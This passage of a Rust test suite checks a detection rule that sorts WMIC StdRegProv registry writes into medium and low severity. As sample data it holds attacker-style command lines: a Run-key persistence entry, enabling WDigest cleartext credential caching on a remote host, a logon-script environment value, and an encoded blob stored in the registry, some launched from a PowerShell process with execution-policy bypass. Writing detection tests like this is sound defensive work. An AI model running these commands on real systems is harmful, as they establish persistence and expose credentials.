    let low = "WMIC Writes A Value Under A Third-Party Software Key Through StdRegProv";
    let wmic = "C:\\Windows\\System32\\wbem\\WMIC.exe";
    let ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    let blob = "QUFB".repeat(40);
    let blob_line = format!(
        "wmic /namespace:\\\\root\\default class StdRegProv call SetStringValue hDefKey=2147483649 sSubKeyName=\"Software\\Updater\" sValueName=\"cfg\" sValue=\"{blob}\""
    );
    for (line, case) in [
        (
            "\"C:\\WINDOWS\\System32\\Wbem\\WMIC.exe\" /NameSpace:\\\\root\\default Class StdRegProv Call CreateKey sSubKeyName=SOFTWARE\\Policies\\DeleteMe",
            "regression sample: policies key",
        ),
        (
            "wmic /namespace:\\\\root\\default class StdRegProv call SetStringValue hDefKey=2147483649 sSubKeyName=\"Software\\Microsoft\\Windows\\CurrentVersion\\Run\" sValueName=\"upd\" sValue=\"C:\\Users\\bob\\a.exe\"",
            "run key",
        ),
        (
            "wmic /node:srv1 /namespace:\\\\root\\default path StdRegProv call SetDWORDValue hDefKey=2147483650 sSubKeyName=\"SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\" sValueName=\"UseLogonCredential\" uValue=1",
            "WDigest on a remote host",
        ),
        (
            "wmic /namespace:\\\\root\\default class StdRegProv call SetStringValue hDefKey=2147483649 sSubKeyName=\"Environment\" sValueName=\"UserInitMprLogonScript\" sValue=\"C:\\Users\\bob\\l.bat\"",
            "logon script environment value",
        ),
        (
            "wmic /namespace:\\\\root\\default class StdRegProv call SetBinaryValue hDefKey=2147483649 sSubKeyName=\"Software\\Updater\" sValueName=\"p\" uValue={77,90}",
            "binary value under an own key",
        ),
        (blob_line.as_str(), "long encoded value under an own key"),
    ] {
        let got = proc(&set, wmic, line, ps, "powershell.exe -ep bypass");
        has(&got, medium, case);
        lacks(&got, low, case);
    }
    for (line, case) in [
        (
            "wmic /namespace:\\\\root\\default class StdRegProv call SetStringValue hDefKey=2147483650 sSubKeyName=\"SOFTWARE\\CorpIT\\Inventory\" sValueName=\"AssetTag\" sValue=\"CX-0133-2024\"",
            "asset tag under the company's own key",
        ),
        (
            "wmic /namespace:\\\\root\\default class StdRegProv call SetDWORDValue hDefKey=2147483650 sSubKeyName=\"SOFTWARE\\Contoso\\Build\" sValueName=\"Ring\" uValue=2",
            "deployment ring stamp",
        ),
    ] {
        let got = proc_as(
            &set,
            wmic,
            line,
            cmd_exe(),
            "cmd.exe /c \\\\example.corp\\NETLOGON\\Inventory\\Set-AssetTag.cmd",
            "NT AUTHORITY\\SYSTEM",
        );
        lacks(&got, medium, case);
        has(&got, low, case);
    }
}

fn cmd_exe() -> &'static str {
    "C:\\Windows\\System32\\cmd.exe"
}
